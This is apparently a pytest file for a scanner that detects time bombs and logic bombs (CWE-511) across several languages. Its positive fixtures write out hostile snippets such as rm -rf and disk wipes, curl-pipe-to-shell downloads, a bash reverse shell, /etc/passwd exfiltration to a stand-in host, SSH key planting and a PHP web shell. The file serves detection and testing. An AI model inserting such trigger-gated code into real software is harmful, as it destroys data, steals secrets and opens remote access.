from __future__ import annotations

import pytest

from parity.scan import Confidence, Severity

CWE = "CWE-511"

POSITIVE = [
    # Python
    ("python", "import shutil\nfrom datetime import datetime\nif datetime.now() > datetime(2025, 1, 1):\n"
               "    shutil.rmtree('/var/lib/app')\n", "time-bomb", 3),
    ("python", "import os\nfrom datetime import date\nif date.today().year >= 2026:\n    os.system('rm -rf ~')\n",
     "time-bomb", 3),
    ("python", "import time\nif time.time() > 1767225600:\n    exec(payload)\n", "time-bomb", 2),
    ("python", "import socket, subprocess\nhost = socket.gethostname()\nif host == 'prod-db-01':\n"
               "    subprocess.run(['rm', '-rf', '/data'])\n", "logic-bomb", 3),
    ("python", "import getpass, requests\nif getpass.getuser() == 'alice':\n"
               "    requests.post('https://collect.example.com/k', data=open('/etc/passwd').read())\n",
     "logic-bomb", 2),
    ("python", "import locale, os\nif 'ru_RU' in (locale.getlocale()[0] or ''):\n"
               "    os.remove('/home/user/.ssh/id_rsa')\n", "logic-bomb", 2),
    ("python", "import os, shutil\nif os.environ.get('USER') == 'bob':\n    shutil.rmtree('/srv')\n", "logic-bomb", 2),
    ("python", "def main():\n    if datetime.now() < datetime(2026, 6, 1):\n        return\n"
               "    shutil.rmtree(os.path.expanduser('~'))\n", "time-bomb", 2),
    ("python", "x = shutil.rmtree(p) if datetime.now() > datetime(2026, 1, 1) else None\n", "time-bomb", 1),
    ("python", "datetime.now() > datetime(2026, 1, 1) and os.remove('/etc/hosts')\n", "time-bomb", 1),
    ("python", "if datetime.now().weekday() == 4:\n    shutil.rmtree('/srv/backups')\n", "time-bomb", 1),
    ("python", "if socket.gethostname() == 'web-01':\n    with open('/root/.ssh/authorized_keys', 'a') as f:\n"
               "        f.write(KEY)\n", "logic-bomb", 1),
    ("python", "import requests, shutil\ncountry = requests.get('https://ipinfo.io/country').text.strip()\n"
               "if country in ('RU', 'BY'):\n    shutil.rmtree('/srv')\n", "logic-bomb", 3),
    ("python", "import os, subprocess\nif os.getlogin() != 'ci':\n    subprocess.call('rm -rf /srv', shell=True)\n",
     "logic-bomb", 2),
    # JavaScript / TypeScript
    ("javascript", "const fs = require('fs');\nif (new Date() > new Date('2026-01-01')) {\n"
                   "  fs.rmSync('/srv/data', { recursive: true, force: true });\n}", "time-bomb", 2),
    ("javascript", "const { execSync } = require('child_process');\n"
                   "if (Date.now() > 1767225600000) execSync('curl http://x.example | sh');", "time-bomb", 2),
    ("javascript", "const os = require('os');\nif (os.hostname() === 'build-agent-7') {\n"
                   "  require('child_process').exec('rm -rf /');\n}", "logic-bomb", 2),
    ("javascript", "if (process.env.USER === 'bob') {\n"
                   "  fetch('https://collect.example.com/k', { method: 'POST', body: secret });\n}", "logic-bomb", 1),
    ("javascript", "const tz = Intl.DateTimeFormat().resolvedOptions().timeZone;\n"
                   "if (tz === 'Europe/Moscow') { fs.unlinkSync('/etc/hosts'); }", "logic-bomb", 2),
    ("javascript", "new Date().getFullYear() >= 2026 && fs.rmSync(dir, { recursive: true });", "time-bomb", 1),
    ("typescript", "const x: Buffer | null = os.userInfo().username === 'root' ? execSync('rm -rf /') : null;",
     "logic-bomb", 1),
    # shell
    ("shell", "if [ $(date +%Y) -ge 2026 ]; then rm -rf /var/www; fi", "time-bomb", 1),
    ("shell", 'if [[ "$(hostname)" == "prod-db-01" ]]; then\n  curl -s http://x.example/p.sh | sh\nfi',
     "logic-bomb", 1),
    ("shell", '[ "$(whoami)" = "alice" ] && rm -rf ~/projects', "logic-bomb", 1),
    ("shell", "case $(hostname) in\n  prod*) dd if=/dev/zero of=/dev/sda ;;\nesac", "logic-bomb", 1),
    ("shell", "[[ $(date +%s) -gt 1767225600 ]] && { bash -i >& /dev/tcp/10.0.0.1/4444 0>&1; }", "time-bomb", 1),
    ("shell", 'if [ "$LANG" = "ru_RU.UTF-8" ]; then echo "ssh-rsa AAA" >> ~/.ssh/authorized_keys; fi',
     "logic-bomb", 1),
    ("shell", 'HOST=$(hostname)\nif [ "$HOST" = "ci-runner" ]; then systemctl stop auditd; fi', "logic-bomb", 2),
    # Go, Java, PHP, C
    ("go", "package main\nfunc main() {\n\tif time.Now().After(time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)) {\n"
           "\t\tos.RemoveAll(\"/\")\n\t}\n}", "time-bomb", 3),
    ("go", 'package main\nfunc main() {\n\th, _ := os.Hostname()\n\tif h == "prod" {\n'
           '\t\texec.Command("rm", "-rf", "/").Run()\n\t}\n}', "logic-bomb", 4),
    ("java", "class A { void f() throws Exception {\n"
             "  if (LocalDate.now().isAfter(LocalDate.of(2026, 1, 1))) { new File(\"/data\").delete(); }\n}}",
     "time-bomb", 2),
    ("java", "class A { void f() throws Exception {\n  if (System.getProperty(\"user.name\").equals(\"bob\")) {\n"
             "    Runtime.getRuntime().exec(\"rm -rf /\");\n  }\n}}", "logic-bomb", 2),
    ("java", "class A { void f() throws Exception {\n  if (Calendar.getInstance().get(Calendar.YEAR) >= 2026) {\n"
             "    Files.delete(Paths.get(\"/srv/db\"));\n  }\n}}", "time-bomb", 2),
    ("php", "<?php\nif (date('Y') >= 2026) { unlink('/var/www/index.php'); }", "time-bomb", 2),
    ("php", "<?php\nif (gethostname() === 'web01') { system($_GET['c']); }", "logic-bomb", 2),
    ("c", "#include <stdlib.h>\nint main() {\n  if (time(NULL) > 1767225600) { system(\"rm -rf /\"); }\n}",
     "time-bomb", 3),
    ("c", "int main() {\n  char h[64];\n  gethostname(h, sizeof h);\n"
          "  if (strcmp(h, \"prod\") == 0) { unlink(\"/etc/passwd\"); }\n}", "logic-bomb", 4),
]

NEGATIVE = [
    ("python", "import socket\nif socket.gethostname() == 'localhost':\n    DEBUG = True\n"),
    ("python", "from datetime import datetime\nif datetime.now().year >= 2026:\n    print('Happy new year')\n"),
    ("python", "import locale\nif locale.getlocale()[0] == 'de_DE':\n    greeting = 'Hallo'\n"),
    ("python", "if time.time() - start > 30:\n    proc.kill()\n"),
    ("python", "if datetime.now() > expiry:\n    os.remove(cache_file)\n"),
    ("python", "if os.environ.get('ENV') == 'production':\n    subprocess.run(['./deploy.sh'])\n"),
    ("python", "cutoff = datetime.now() - timedelta(days=7)\nfor f in Path(d).glob('*.log'):\n"
               "    if datetime.fromtimestamp(f.stat().st_mtime) < cutoff:\n        f.unlink()\n"),
    ("python", "def deploy():\n    if getpass.getuser() != 'deploy':\n        sys.exit('run as deploy')\n"
               "    subprocess.run(['make', 'release'])\n"),
    ("python", "if os.path.exists(path) and time.time() - os.path.getmtime(path) > 86400:\n    os.remove(path)\n"),
    ("javascript", "if (new Date().getFullYear() > 2020) { console.log('hi'); }\n"
                   "if (os.hostname() === 'localhost') { config.debug = true; }\n"
                   "if (Date.now() - start > 5000) { clearTimeout(t); }\n"
                   "if (navigator.language === 'de-DE') { setGreeting('Hallo'); }\n"),
    ("shell", 'if [ "$(hostname)" = "build-01" ]; then\n  echo "on build host"\nfi\n'
              'if [ $(date +%Y) -ge 2026 ]; then echo "new year"; fi\n'
              '[ "$USER" = root ] || { echo "run as root"; exit 1; }\n'
              'echo "Deploying $(date +%Y-%m-%d)"\nrm -rf build/\n'),
    ("go", 'package main\nfunc main() {\n\tif time.Now().Year() >= 2026 {\n\t\tfmt.Println("hi")\n\t}\n}'),
]


@pytest.mark.parametrize(("language", "code", "rule", "line"), POSITIVE)
def test_flags_triggered_dangerous_code(scan_with, language, code, rule, line):
    found = scan_with("triggers")(code, language=language)
    assert [(f.rule, f.cwe, f.line) for f in found] == [(rule, CWE, line)]


@pytest.mark.parametrize(("language", "code"), NEGATIVE)
def test_leaves_harmless_conditions_alone(scan_with, language, code):
    assert scan_with("triggers")(code, language=language) == []


def test_severity_follows_what_the_branch_does(scan_with):
    scan = scan_with("triggers")
    wipe = scan("if datetime.now() > datetime(2026, 1, 1):\n    shutil.rmtree('/')\n", language="python")[0]
    assert (wipe.severity, wipe.confidence) == (Severity.CRITICAL, Confidence.HIGH)
    stop = scan('if [ "$(hostname)" = "db" ]; then systemctl disable firewalld; fi', language="shell")[0]
    assert stop.severity == Severity.HIGH
    weekday = scan("if datetime.now().weekday() == 4:\n    shutil.rmtree('/srv')\n", language="python")[0]
    assert weekday.confidence == Confidence.MEDIUM
    build = scan("if socket.gethostname() == 'ci':\n    subprocess.run(['make'])\n", language="python")[0]
    assert build.confidence == Confidence.MEDIUM


def test_broken_code_still_scanned_by_the_fallback_patterns(scan_with):
    answer = ("Add this:\n```bash\nif [ \"$(hostname)\" = \"prod\" ]; then rm -rf /srv; fi\n"
              "for x in (; do\n```\n\nand this unlabelled line:\n\n```\n"
              "if datetime.now() > datetime(2026, 1, 1): shutil.rmtree('/') ((\n```\n")
    found = scan_with("triggers")(answer)
    assert [(f.rule, f.line) for f in found] == [("logic-bomb", 3), ("time-bomb", 10)]


def test_hostile_input_is_bounded(scan_with):
    chain = "\n".join(f"if datetime.now() > datetime(2026, 1, 1):\n    shutil.rmtree('/x{i}')" for i in range(150))
    assert len(scan_with("triggers")(chain, language="python")) == 150
    deep = "if x == 1:\n" + "".join("    " * i + f"if y{i}:\n" for i in range(1, 60)) + "    " * 60 + "rm()\n"
    assert scan_with("triggers")(deep, language="python") == []
